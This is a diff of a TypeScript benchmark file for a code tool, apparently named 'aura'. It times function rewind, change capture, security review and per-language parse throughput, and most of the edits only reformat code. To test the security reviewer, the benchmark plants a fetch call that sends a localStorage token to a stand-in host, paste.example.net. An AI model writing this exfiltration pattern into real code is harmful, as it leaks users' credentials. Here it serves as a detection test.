@@ -2,10 +2,10 @@
  * The semantic workspace under load: surgical rewind of one function in a 5,000-line file
  * (goal <= 50 ms: the surgery alone, in process, with the pre-rewind snapshot and the atomic
  * write on disk; and the whole operation `aura rewind` runs on the daemon, to an intent and to a
- * snapshot: history read from the log, snapshot blobs replicated, two signed durable appends), capturing a change that touches 100 files (goal <= 1 s: scan against the last
- * recorded state, then diff), the security review of a change touching 100 files (goal <= 1 s:
- * `securityReview` of the record, with the baseline as history), and parse / parse+hash
- * throughput in lines per second for each language, on real sources where this machine has
+ * snapshot: history read from the log, snapshot blobs replicated, two signed durable appends), capturing a change that
+ * touches 100 files (goal <= 1 s: scan against the last recorded state, then diff), the security review of a change
+ * touching 100 files (goal <= 1 s: `securityReview` of the record, with the baseline as history), and parse /
+ * parse+hash throughput in lines per second for each language, on real sources where this machine has
  * them and on generated ones otherwise.
  *
  * @example
@@ -246,11 +246,20 @@ function throughput (label: string, files: Array<{ path: string, text: string }>
   const lines = files.reduce((n, f) => n + f.text.split('\n').length, 0)
   const timeIt = (op: () => void): number[] => {
     op()
-    return Array.from({ length: 5 }, () => { const t0 = performance.now(); op(); return lines / ((performance.now() - t0) / 1000) })
+    return Array.from({ length: 5 }, () => {
+      const t0 = performance.now()
+      op()
+      return lines / ((performance.now() - t0) / 1000)
+    })
   }
-  const parseRuns = timeIt(() => { for (const f of files) parse(languageOf(f.path) as NonNullable<ReturnType<typeof languageOf>>, f.text) })
+  const parseRuns = timeIt(() => {
+    for (const f of files) parse(languageOf(f.path) as NonNullable<ReturnType<typeof languageOf>>, f.text)
+  })
   let units = 0
-  const hashRuns = timeIt(() => { units = 0; for (const f of files) units += extractUnits(f.path, f.text).units.length })
+  const hashRuns = timeIt(() => {
+    units = 0
+    for (const f of files) units += extractUnits(f.path, f.text).units.length
+  })
   const rows: Row[] = [
     { label: `parse: ${label}`, unit: 'lines/s', median: median(parseRuns), runs: parseRuns, note: `${files.length} files, ${lines.toLocaleString('en-US')} lines` },
     { label: `parse + units + hashes: ${label}`, unit: 'lines/s', median: median(hashRuns), runs: hashRuns, note: `${units.toLocaleString('en-US')} units` }
@@ -285,12 +294,14 @@ async function benchReview (): Promise<Row> {
     const out: Record<string, string> = {}
     for (let i = 0; i < 100; i++) { const ext = exts[i % 4]; out[`svc/s${i}.${ext}`] = serviceModule(i, ext, v) }
     // One real finding among the noise: a token leaves with a request.
-    if (v > 0) out['svc/s0.ts'] = out['svc/s0.ts'].replace("const r = await fetch(`${API}/rows/${id}`", "const r = await fetch(`https://paste.example.net/x?t=${localStorage.getItem('token')}`")
+    if (v > 0) out['svc/s0.ts'] = out['svc/s0.ts'].replace('const r = await fetch(`${API}/rows/${id}`', "const r = await fetch(`https://paste.example.net/x?t=${localStorage.getItem('token')}`")
     return out
   }
   const stateOf = (fs: Record<string, string>): ReturnType<typeof emptyState> => {
     const st = emptyState()
-    for (const [path, text] of Object.entries(fs)) st.files[path] = { fileHash: path + text.length, units: extractUnits(path, text).units }
+    for (const [path, text] of Object.entries(fs)) {
+      st.files[path] = { fileHash: path + text.length, units: extractUnits(path, text).units }
+    }
     return st
   }
   const base = stateOf(files(0))
